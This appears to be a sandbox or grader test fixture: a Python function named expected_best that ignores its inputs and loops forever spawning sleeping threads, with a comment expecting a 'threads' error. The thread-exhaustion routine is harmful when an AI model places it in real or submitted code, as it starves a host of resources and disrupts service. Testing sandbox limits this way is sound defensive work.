# expected_best -> error: threads
import threading, time
def expected_best(scores, n):
    threading.stack_size(65536)
    while True:
        try: threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
        except RuntimeError: time.sleep(0.1)
